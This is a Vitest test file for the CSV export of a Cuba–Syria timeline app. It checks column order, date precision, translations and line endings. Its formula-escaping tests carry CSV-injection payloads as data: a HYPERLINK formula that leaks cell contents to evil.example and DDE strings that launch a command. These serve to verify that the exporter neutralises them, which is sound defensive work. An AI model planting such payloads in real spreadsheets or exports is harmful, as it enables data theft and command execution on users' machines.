import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { periodEndMs, periodStartMs, sortEvents } from '../data/dates';
import { validateDataset } from '../data/schema';
import type { Dataset, TimelineEvent } from '../data/types';
import { loadLanguage, translate, type Language } from '../i18n';
import { CSV_COLUMNS, csvEncoder, csvField, neutralizeFormula } from './csv';
import { encodeAll, indexForExport, type ExportContext } from './encode';

const dataset = (() => {
  const result = validateDataset(
    JSON.parse(readFileSync(new URL('../../public/data/cuba-syria.json', import.meta.url), 'utf8')),
  );
  if (!result.ok) throw new Error('invalid bundled dataset');
  return result.dataset;
})();
const all = sortEvents(dataset.events);

function ctxFor(data: Dataset, lang: Language): ExportContext {
  return {
    lang,
    index: indexForExport(data, data.events),
    eventUrl: (id) => `https://example.org/events/${id}/`,
    t: (key, params) => translate(lang, key, params),
  };
}
const toCsv = (events: readonly TimelineEvent[], lang: Language, data: Dataset = dataset) =>
  encodeAll(csvEncoder(ctxFor(data, lang)), events);
const parse = (csv: string) =>
  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  });

beforeAll(async () => {
  await loadLanguage('es');
  await loadLanguage('ar');
});

describe('csvEncoder', () => {
  it('has typed columns first: start_date, end_date, precision, a readable date, then the rest', () => {
    const parsed = parse(toCsv(all, 'en'));
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
    expect(CSV_COLUMNS.slice(0, 4)).toEqual(['start_date', 'end_date', 'precision', 'date']);
    const row = (id: string) => parsed.data.find((r) => r.id === id)!;
    expect(row('nam-summit-havana-1979')).toMatchObject({
      start_date: '1979-09-01',
      end_date: '1979-09-30',
      precision: 'month',
      date: 'September 1979',
      category: 'diplomatic',
      url: 'https://example.org/events/nam-summit-havana-1979/',
    });
    expect(row('cuban-tank-crews-in-syria')).toMatchObject({
      start_date: '1973-01-01',
      end_date: '1975-12-31',
      precision: 'year',
      date: '1973 – 1975',
    });
    expect(row('relations-established')).toMatchObject({
      start_date: '1965-08-11',
      end_date: '1965-08-11',
      precision: 'day',
      date: '11 August 1965',
    });
    expect(row('assad-visits-cuba-2010')).toMatchObject({
      start_date: '2010-06-27',
      end_date: '2010-06-29',
      precision: 'day',
    });
    // Commas, quotes and line breaks in text survive.
    expect(row('relations-established').summary).toBe(
      all.find((e) => e.id === 'relations-established')!.summary,
    );
    expect(row('nam-summit-havana-1979').sources).toContain(
      'AFP (via El Punto Crítico): Al Asad saluda',
    );
  });

  it('sorted by start_date, gives the chronological order (full ISO dates, years of four digits)', () => {
    // A dated event (no end) moved to the ends of the calendar.
    const point = all.find((e) => e.end === undefined)!;
    const early: TimelineEvent[] = [
      { ...point, id: 'y0800', start: '0800-12-25' },
      { ...point, id: 'y0001', start: '0001' },
      { ...point, id: 'y0950', start: '0950-03' },
      { ...point, id: 'y9999', start: '9999-12-31' },
    ];
    const events = [...all, ...early];
    const rows = parse(toCsv(events, 'en')).data;
    for (const r of rows) {
      expect(r.start_date, r.id).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.end_date, r.id).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.end_date! >= r.start_date!, r.id).toBe(true);
    }
    // As a spreadsheet sorts a text or date column.
    const key = (r: Record<string, string>) => r.start_date ?? '';
    const sorted = [...rows].sort((a, b) => (key(a) < key(b) ? -1 : key(a) > key(b) ? 1 : 0));
    const byId = new Map(events.map((e) => [e.id, e]));
    const starts = sorted.map((r) => periodStartMs(byId.get(r.id!)!.start));
    expect(starts).toEqual([...starts].sort((a, b) => a - b));
    expect(sorted[0]!.id).toBe('y0001');
    expect(sorted.at(-1)!.id).toBe('y9999');
    // end_date is the last day of the period at its precision.
    for (const r of rows) {
      const e = byId.get(r.id!)!;
      expect(Date.parse(`${r.end_date}T00:00Z`) + 86_400_000, r.id).toBe(
        periodEndMs(e.end ?? e.start),
      );
    }
  });

  it('names both precisions of a period whose ends differ', () => {
    const mixed = { ...all[0]!, id: 'mixed', start: '1965-08-11', end: '1991' };
    const [r] = parse(toCsv([mixed], 'en')).data;
    expect(r).toMatchObject({
      start_date: '1965-08-11',
      end_date: '1991-12-31',
      precision: 'day/year',
    });
  });

  it('writes the readable date and the text in the export’s language', () => {
    const nam = all.filter((e) => e.id === 'nam-summit-havana-1979');
    expect(parse(toCsv(nam, 'es')).data[0]).toMatchObject({
      date: 'septiembre de 1979',
      title: nam[0]!.i18n!.es!.title,
      start_date: '1979-09-01',
    });
    const ar = parse(toCsv(nam, 'ar')).data[0]!;
    expect(ar.date).toBe('سبتمبر 1979');
    expect(ar.title).toBe(nam[0]!.i18n!.ar!.title);
    expect(ar.places).toBe(dataset.places.find((p) => p.id === nam[0]!.places[0])!.i18n!.ar!.name);
  });

  it('ends every line with CRLF (RFC 4180) and starts with a byte-order mark', () => {
    const csv = toCsv(all, 'en');
    expect(csv.startsWith('\uFEFFstart_date,end_date,precision,date,id,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted fields there is no bare LF or CR.
    const outside = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(outside.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(outside.split('\r\n').filter(Boolean)).toHaveLength(all.length + 1);
  });
});

describe('formula escaping (issue 21, item 1)', () => {
  const attack = '=HYPERLINK("http://evil.example/?leak="&H3;"Click for sources\u2028")';
  const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

  it('prefixes a cell whose first character starts a formula, whatever follows', () => {
    for (const start of starts)
      for (const tail of ['1+1', 'A\nB', 'A\rB', 'A\u2028B', 'A\u2029B', 'cmd|" /C calc"!A0'])
        expect(neutralizeFormula(`${start}${tail}`), JSON.stringify(start + tail)).toBe(
          `'${start}${tail}`,
        );
    expect(neutralizeFormula(attack)).toBe(`'${attack}`);
    expect(neutralizeFormula('  =1+1')).toBe("'  =1+1");
    // Ordinary text and typed values are left alone.
    for (const safe of ['Havana', '1965-08-11', '', 'a=b', "'quoted"])
      expect(neutralizeFormula(safe)).toBe(safe);
    expect(csvField(attack)).toBe(`"'${attack.replace(/"/g, '""')}"`);
  });

  it('leaves no cell of the file starting with a formula character, in any column', () => {
    const hostile: Dataset = {
      ...dataset,
      places: [
        { id: 'p1', name: '@SUM(A1:A9)', lat: 23.1, lng: -82.4, precision: 'city' },
        { id: 'p2', name: '-2+3\u2029', lat: 33.5, lng: 36.3, precision: 'city' },
      ],
      sources: [
        {
          id: 's1',
          title: '\t=1+1',
          publisher: '=cmd|" /C calc"!A0',
          url: 'https://example.org/',
          kind: 'wire',
        },
      ],
      events: [],
    };
    const events: TimelineEvent[] = starts.map((start, i) => ({
      id: `e${String(i)}`,
      title: i === 0 ? attack : `${start}title\n=second line`,
      summary: `${start}summary\u2028more`,
      note: `${start}note\r\n`,
      start: '1965-08-11',
      category: 'diplomatic',
      places: ['p1', 'p2'],
      sources: [{ source: 's1', quote: 'q' }],
    }));
    hostile.events = events;
    const parsed = Papa.parse<string[]>(toCsv(events, 'en', hostile).replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    });
    expect(parsed.errors).toEqual([]);
    const cells = parsed.data.slice(1).flat();
    expect(cells.length).toBe(events.length * CSV_COLUMNS.length);
    for (const cell of cells)
      expect(
        /^[=+\-@\t\r\n＝＋－＠]/.test(cell.replace(/^[ \u00A0]+/, '')),
        JSON.stringify(cell),
      ).toBe(false);
    const first = parsed.data[1]!;
    expect(first[CSV_COLUMNS.indexOf('title')]).toBe(`'${attack}`);
    expect(first[CSV_COLUMNS.indexOf('places')]).toBe("'@SUM(A1:A9); -2+3\u2029");
  });
});
